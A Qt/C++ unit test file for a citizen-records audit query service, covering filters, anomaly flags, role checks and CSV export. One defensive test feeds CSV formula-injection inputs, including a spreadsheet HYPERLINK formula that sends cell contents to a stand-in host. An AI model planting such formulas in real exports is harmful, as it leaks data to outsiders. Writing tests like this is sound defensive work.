// SPDX-FileCopyrightText: 2026 Citizen 360 contributors
// SPDX-License-Identifier: EUPL-1.2
// The supervisor's audit query: filters by staff member, citizen, action, purpose and period;
// anomaly flags with their reasons (nothing registered in the session, many profiles in an hour,
// outside office hours, one's own family name); CSV export; only supervisors and administrators.

#include "audit/auditquery.h"
#include "citizenbuilder.h"
#include "privacy/accountservice.h"
#include "store/citizenrepository.h"
#include "storetesting.h"
#include "tempstore.h"

#include <QTest>

using namespace C360;
using namespace Qt::StringLiterals;

namespace
{
const QByteArray key(32, 'q');
// Monday 2 March 2026, in this machine's time zone: office hours are local.
QDateTime at(int day, int hour, int minute)
{
    return QDateTime(QDate(2026, 3, day), QTime(hour, minute)).toUTC();
}
const Purpose visit{u"counter_visit"_s, u"Vraag over de bewonerskaart"_s};
const StaffMember an{u"an.peeters"_s, Role::CounterClerk, u"balie-1"_s};
const StaffMember bulk{u"bulk.user"_s, Role::CallCentreAgent, u"cc-9"_s};
const StaffMember supervisor{u"els.toezicht"_s, Role::Supervisor, u"toezicht-1"_s};

QStringList kinds(const AuditRow &row)
{
    QStringList out;
    for (const AuditAnomaly &a : row.anomalies) {
        out.append(QString::number(int(a.kind)));
        if (a.reason.isEmpty()) {
            out.append(u"(no reason)"_s);
        }
    }
    return out;
}
} // namespace

class TestAuditQuery : public QObject
{
    Q_OBJECT

    std::unique_ptr<Test::TempStore> m_store;
    std::unique_ptr<AuditService> m_audit;
    std::unique_ptr<AuditQueryService> m_query;
    qint64 m_lotte = 0;
    qint64 m_jan = 0;
    QList<qint64> m_many;

    void record(const StaffMember &staff, const QDateTime &time, AuditAction action, qint64 citizen, const Purpose &purpose = visit)
    {
        m_store->clock().set(time);
        QVERIFY(m_audit->record(staff, action, citizen, purpose));
    }

    const AuditRow *rowFor(const QList<AuditRow> &rows, const QDateTime &time, const QString &actor)
    {
        for (const AuditRow &r : rows) {
            if (r.entry.time == time && r.entry.actor == actor) {
                return &r;
            }
        }
        return nullptr;
    }

private Q_SLOTS:
    void init()
    {
        m_store = std::make_unique<Test::TempStore>(at(2, 8, 0));
        Database &db = m_store->open();
        m_audit = std::make_unique<AuditService>(db, key);
        m_query = std::make_unique<AuditQueryService>(*m_audit);
        CitizenRepository citizens(db);
        m_lotte = citizens.insert(Test::CitizenBuilder().withName(u"Lotte"_s, u"Claes"_s).build()).value_or(0);
        m_jan = citizens.insert(Test::CitizenBuilder().withName(u"Jan"_s, u"Peeters"_s).build()).value_or(0);
        m_many.clear();
        for (int i = 0; i < 22; ++i) {
            m_many.append(citizens.insert(Test::CitizenBuilder().withName(u"Burger"_s, u"Nummer %1"_s.arg(i)).build()).value_or(0));
        }
        // An Peeters has an account with her name.
        AccountService accounts(*m_audit, PasswordHash::Cost::Light);
        QVERIFY(accounts.createFirstAdministrator(u"beheer"_s, QString(), u"een lang wachtwoord"_s, u"ws"_s, AccountService::ExistingData::Allow));
        StaffAccount account;
        account.username = an.name;
        account.displayName = u"An Peeters"_s;
        QVERIFY(accounts.createAccount(StaffMember{u"beheer"_s, Role::Administrator, u"ws"_s}, account, u"een lang wachtwoord"_s));

        record(an, at(2, 9, 0), AuditAction::ProfileOpened, m_lotte); // with a contact after it
        record(an, at(2, 9, 5), AuditAction::Change, m_lotte);
        record(an, at(2, 9, 30), AuditAction::ProfileOpened, m_jan); // her own family name; nothing registered
        record(an, at(2, 9, 40), AuditAction::ProfileOpened, m_lotte); // nothing registered, session over
        record(an, at(7, 22, 0), AuditAction::ProfileOpened, m_lotte, Purpose{u"phone_call"_s, u"Belt \"dringend\", zegt ze"_s}); // Saturday night
        for (int i = 0; i < m_many.size(); ++i) {
            record(bulk, at(2, 10, i), AuditAction::ProfileOpened, m_many.at(i));
            record(bulk, at(2, 10, i).addSecs(20), AuditAction::Change, m_many.at(i));
        }
        m_store->clock().set(at(9, 9, 0));
    }

    void anomalies()
    {
        auto rows = m_query->find(supervisor, AuditFilter{});
        QVERIFY(rows);
        using K = AuditAnomaly::Kind;
        auto flags = [&](const QDateTime &time, const StaffMember &who) {
            const AuditRow *row = rowFor(*rows, time, who.name);
            return row ? kinds(*row) : QStringList{u"(missing)"_s};
        };
        QCOMPARE(flags(at(2, 9, 0), an), QStringList());
        QCOMPARE(flags(at(2, 9, 30), an), QStringList({QString::number(int(K::NothingRegistered)), QString::number(int(K::OwnFamilyName))}));
        QCOMPARE(flags(at(2, 9, 40), an), QStringList({QString::number(int(K::NothingRegistered))}));
        QCOMPARE(flags(at(7, 22, 0), an), QStringList({QString::number(int(K::OutsideOfficeHours)), QString::number(int(K::NothingRegistered))}));
        // The 21st and 22nd distinct profile within the hour.
        QCOMPARE(flags(at(2, 10, 19), bulk), QStringList());
        QCOMPARE(flags(at(2, 10, 20), bulk), QStringList({QString::number(int(K::ManyProfiles))}));
        QCOMPARE(flags(at(2, 10, 21), bulk), QStringList({QString::number(int(K::ManyProfiles))}));
        const AuditRow *many = rowFor(*rows, at(2, 10, 21), bulk.name);
        QVERIFY(many->anomalies.first().reason.contains(u"22"_s));
        // A change is not an access: never flagged.
        for (const AuditRow &r : std::as_const(*rows)) {
            if (r.entry.action == AuditAction::Change) {
                QVERIFY(r.anomalies.isEmpty());
            }
        }
    }

    // A session still going on is not flagged yet.
    void openSessionIsNotFlaggedYet()
    {
        record(an, at(9, 9, 0), AuditAction::ProfileOpened, m_jan, visit);
        m_store->clock().set(at(9, 9, 30));
        AuditFilter filter;
        filter.staffMember = an.name;
        filter.from = at(9, 0, 0);
        auto rows = m_query->find(supervisor, filter);
        QVERIFY(rows);
        QCOMPARE(rows->size(), 1);
        QCOMPARE(kinds(rows->first()), QStringList({QString::number(int(AuditAnomaly::Kind::OwnFamilyName))}));
    }

    void filters()
    {
        AuditFilter byStaff;
        byStaff.staffMember = an.name;
        QCOMPARE(m_query->find(supervisor, byStaff)->size(), 5);
        AuditFilter byCitizen;
        byCitizen.citizenId = m_lotte;
        QCOMPARE(m_query->find(supervisor, byCitizen)->size(), 4);
        AuditFilter byAction;
        byAction.action = AuditAction::Change;
        QCOMPARE(m_query->find(supervisor, byAction)->size(), 25); // two accounts made, her contact, 22 of bulk's
        AuditFilter byPurpose;
        byPurpose.purposeCode = u"phone_call"_s;
        QCOMPARE(m_query->find(supervisor, byPurpose)->size(), 1);
        AuditFilter byPeriod;
        byPeriod.from = at(2, 9, 30);
        byPeriod.to = at(2, 10, 0);
        auto period = m_query->find(supervisor, byPeriod);
        QCOMPARE(period->size(), 2);
        QVERIFY(period->first().entry.sequence > period->last().entry.sequence); // newest first
        AuditFilter limited;
        limited.limit = 3;
        QCOMPARE(m_query->find(supervisor, limited)->size(), 3);
    }

    void onlySupervisorsAndAdministrators()
    {
        for (const StaffMember &staff : {an, bulk}) {
            auto rows = m_query->find(staff, AuditFilter{});
            QVERIFY(!rows);
            QCOMPARE(rows.error().kind, ServiceError::Kind::Denied);
        }
        QCOMPARE(Test::scalar(m_store->db(), u"SELECT COUNT(*) FROM audit_log WHERE action = 'access_denied'"_s), 2);
        QVERIFY(m_query->find(StaffMember{u"beheer"_s, Role::Administrator, u"ws"_s}, AuditFilter{}));
    }

    void csv()
    {
        AuditFilter filter;
        filter.purposeCode = u"phone_call"_s;
        const QByteArray csv = AuditQueryService::toCsv(*m_query->find(supervisor, filter));
        const QStringList lines = QString::fromUtf8(csv).split(u"\r\n"_s, Qt::SkipEmptyParts);
        QCOMPARE(lines.size(), 2);
        QCOMPARE(lines.first(), u"sequence,time,staff_member,role,workstation,action,citizen_id,purpose_code,purpose,outcome,anomalies"_s);
        QVERIFY2(lines.at(1).contains(u",\"Belt \"\"dringend\"\", zegt ze\","_s), qPrintable(lines.at(1)));
        QVERIFY2(lines.at(1).endsWith(u",success,outside_office_hours;nothing_registered"_s), qPrintable(lines.at(1)));
    }

    // A purpose typed by a clerk that a spreadsheet would run as a formula is inert in the export.
    void csvCellsAreNeverFormulas_data()
    {
        QTest::addColumn<QString>("typed");
        QTest::addColumn<QString>("cell");
        QTest::newRow("hyperlink") << u"=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")"_s << u"\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"klik\"\")\""_s;
        QTest::newRow("plus") << u"+32 470 12 34 56"_s << u"'+32 470 12 34 56"_s;
        QTest::newRow("minus") << u"-2+3"_s << u"'-2+3"_s;
        QTest::newRow("at") << u"@SUM(1)"_s << u"'@SUM(1)"_s;
        QTest::newRow("tab") << u"\t=1"_s << u"'\t=1"_s;
        QTest::newRow("plain") << u"Vraag over afval"_s << u"Vraag over afval"_s;
    }

    void csvCellsAreNeverFormulas()
    {
        QFETCH(QString, typed);
        QFETCH(QString, cell);
        AuditRow row;
        row.entry.sequence = 4;
        row.entry.time = QDateTime(QDate(2026, 3, 2), QTime(10, 0), Qt::UTC);
        row.entry.actor = u"an.balie"_s;
        row.entry.action = AuditAction::ProfileOpened;
        row.entry.purposeCode = u"other"_s;
        row.entry.purposeText = typed;
        const QStringList lines = QString::fromUtf8(AuditQueryService::toCsv({row})).split(u"\r\n"_s, Qt::SkipEmptyParts);
        QCOMPARE(lines.size(), 2);
        QVERIFY2(lines.at(1).contains(u",other,"_s + cell + u","_s), qPrintable(lines.at(1)));
    }
};

QTEST_GUILESS_MAIN(TestAuditQuery)
#include "tst_auditquery.moc"
